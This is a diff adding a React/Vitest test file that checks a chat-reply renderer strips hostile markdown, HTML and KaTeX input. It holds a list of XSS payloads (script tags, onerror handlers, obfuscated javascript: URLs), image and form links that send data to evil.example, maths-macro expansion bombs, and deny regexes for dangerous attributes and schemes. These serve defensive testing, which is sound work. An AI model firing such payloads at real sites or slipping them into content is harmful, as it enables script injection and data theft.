@@ -1,0 +1,151 @@
+import { render, waitFor } from '@testing-library/react'
+import { describe, expect, it, vi } from 'vitest'
+import { Reply } from './Reply.tsx'
+import { longestMessage } from './visible-text.ts'
+
+const show = (text: string) => render(<Reply text={text} />).container
+
+const wanted = new Set(
+  (
+    'a article aside blockquote br button code del div em h3 h4 h5 h6 hr li ol p pre section span strong sup svg path rect table tbody ' +
+    'td th thead tr ul math semantics mrow mi mn mo mtext mstyle mspace annotation mfrac msup msqrt mpadded menclose'
+  ).split(' '),
+)
+
+const attacks = [
+  '<script>window.hacked = 1</script>',
+  '<img src=x onerror="window.hacked = 1">',
+  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
+  '<iframe src="javascript:window.hacked = 1"></iframe>',
+  '<form action="https://evil.example"><input name=password></form>',
+  '<style>* { display: none }</style>',
+  '<a href="https://ok.example" onclick="window.hacked = 1">x</a>',
+  '[x](javascript:window.hacked=1)',
+  '[x](JaVaScRiPt:window.hacked=1)',
+  '[x](java&#115;cript:window.hacked=1)',
+  '[x](java&#x09;script:window.hacked=1)',
+  '[x](&#1;javascript:window.hacked=1)',
+  '[x](vbscript:msgbox(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](file:///etc/passwd) [y](//evil.example) [z](/admin/users)',
+  '<javascript:window.hacked=1>',
+  '[x][1]\n\n[1]: javascript:window.hacked=1',
+  '![x](https://evil.example/?q=secret)',
+  '![x][i]\n\n[i]: https://evil.example/?q=secret',
+  '$\\href{javascript:window.hacked=1}{x}$ and $\\url{javascript:window.hacked=1}$',
+  '$\\includegraphics[width=3em]{https://evil.example/x.png}$',
+  '$\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlClass{fixed}{x}$ $\\htmlData{a=b}{x}$',
+  '$\\def\\a#1{#1#1#1#1#1#1}\\def\\b#1{\\a{\\a{\\a{#1}}}}\\b{\\b{\\b{x}}}$',
+  '$\\rule{500em}{500em}$',
+]
+
+describe('Reply, given hostile text', () => {
+  it.each(attacks)('leaves nothing that acts in %s', async (attack) => {
+    const container = show(attack)
+    await waitFor(() => expect(container.querySelector('span[dir=ltr]:empty')).toBeNull())
+    for (const element of container.querySelectorAll('*')) {
+      expect(wanted, element.outerHTML.slice(0, 200)).toContain(element.localName)
+      for (const { name, value } of element.attributes) {
+        expect(name).not.toMatch(/^on|^src|^action|^formaction|^xlink|^data-(?!state)/)
+        expect(value).not.toMatch(/^\s*(?:javascript|vbscript|data|file):/i)
+      }
+      if (element.localName === 'a')
+        expect(element.getAttribute('href')).toMatch(/^(?:https?:\/\/|mailto:|#)/)
+    }
+    expect(window).not.toHaveProperty('hacked')
+  })
+
+  it('keeps a formula within ten em, whatever it asks for', async () => {
+    const container = show('$\\rule{500em}{500em}$')
+    await waitFor(() => expect(container.querySelector('.katex')).not.toBeNull())
+    expect(container.innerHTML).not.toContain('500em;')
+  })
+
+  it('shows a tag as the text it is', () => {
+    expect(show('Use <b>this</b> and <script>alert(1)</script>.').textContent).toBe(
+      'Use <b>this</b> and <script>alert(1)</script>.',
+    )
+  })
+
+  it('shows an image as its description and asks no server for it', () => {
+    const container = show('See ![the plan](https://evil.example/p.png) and ![](https://evil.example/q.png).')
+    expect(container.textContent).toBe('See the plan and (image).')
+  })
+
+  it('survives thousands of nested braces', async () => {
+    const { drawFormula } = await import('./katex.ts')
+    const tex = `${'{'.repeat(5_000)}x${'}'.repeat(5_000)}`
+    expect(() => drawFormula(tex, document.createElement('span'), false)).toThrow(RangeError)
+    expect(show(`$$${tex}$$`).textContent).toContain('{{{{')
+  })
+
+  it('draws at most a hundred formulas and none over two thousand characters', async () => {
+    const container = show(
+      `${Array.from({ length: 130 }, (_, n) => `$x_{${n}}$`).join(' ')}\n\n$$${'y+'.repeat(1_100)}y$$`,
+    )
+    await waitFor(() => expect(container.querySelectorAll('.katex')).toHaveLength(100))
+    expect(container.querySelectorAll('code')).toHaveLength(31)
+  })
+
+  it('removes what nobody sees, written plainly or as an entity, and keeps what scripts need', () => {
+    const hidden = 'a\u200Bb\u202Ec\u2066d\u{E0041}e&#x202E;f\uFEFFg'
+    expect(show(hidden).textContent).toBe('abcdefg')
+    expect(show('`x\u202Ey`').textContent).toBe('xy')
+    expect(show('می\u200Cخواهم ❤\uFE0F 👩\u200D🚀').textContent).toBe('می\u200Cخواهم ❤\uFE0F 👩\u200D🚀')
+  })
+
+  it('cuts a message that is too long and says so', () => {
+    const container = show('word '.repeat(longestMessage / 5 + 1_000))
+    expect(container.textContent).toContain('too long to be shown in full')
+    expect(container.textContent?.length).toBeLessThan(longestMessage + 100)
+  })
+
+  it('shows text that is nested beyond reason as plain text', () => {
+    expect(show(`${'> '.repeat(300)}deep`).querySelectorAll('blockquote')).toHaveLength(0)
+  })
+
+  it.each([
+    ['dollars', '$a '.repeat(20_000)],
+    ['brackets', '\\(a '.repeat(20_000)],
+    ['open displays', '\\[a '.repeat(20_000)],
+    ['environments', '\\begin{align}'.repeat(5_000)],
+    ['prices', '$5 aa '.repeat(20_000)],
+    ['fence lines', '~~~\n'.repeat(20_000)],
+    ['backticks', Array.from({ length: 400 }, (_, n) => '`'.repeat(n + 1)).join(' ')],
+  ])('walks hostile %s without growing slow', async (_, text) => {
+    const { scanSpans } = await import('./spans.ts')
+    // Quadratic work would outlast the time a test is given.
+    expect(scanSpans(text.repeat(3)).filter(({ kind }) => kind === 'maths')).toHaveLength(0)
+  })
+
+  it('never asks the network for anything', () => {
+    const fetched = vi.spyOn(globalThis, 'fetch')
+    for (const attack of attacks) show(attack)
+    expect(fetched).not.toHaveBeenCalled()
+  })
+})
+
+describe('links in a reply', () => {
+  it('open outside, without a way back', () => {
+    const link = show('[read](https://example.org/a)').querySelector('a')
+    expect(link?.target).toBe('_blank')
+    expect(link?.rel).toBe('noopener noreferrer nofollow')
+  })
+
+  it.each([
+    ['[read](https://example.org/a)', 'read (example.org)'],
+    ['[https://bank.example](https://evil.example/)', 'https://bank.example (evil.example)'],
+    [
+      '[https://bank.example@evil.example](https://bank.example@evil.example/)',
+      'https://bank.example@evil.example (evil.example)',
+    ],
+    ['[evil.example.bank.example](https://evil.example/)', 'evil.example.bank.example (evil.example)'],
+    ['<https://example.org/a?b=c>', 'https://example.org/a?b=c'],
+    ['see www.example.org/a now', 'see www.example.org/a now'],
+    ['[write](mailto:ann@example.org)', 'write (ann@example.org)'],
+    ['<ann@example.org>', 'ann@example.org'],
+    ['[x](javascript:alert(1))', 'x'],
+  ])('%s shows as %s', (text, shown) => {
+    expect(show(text).textContent).toBe(shown)
+  })
+})
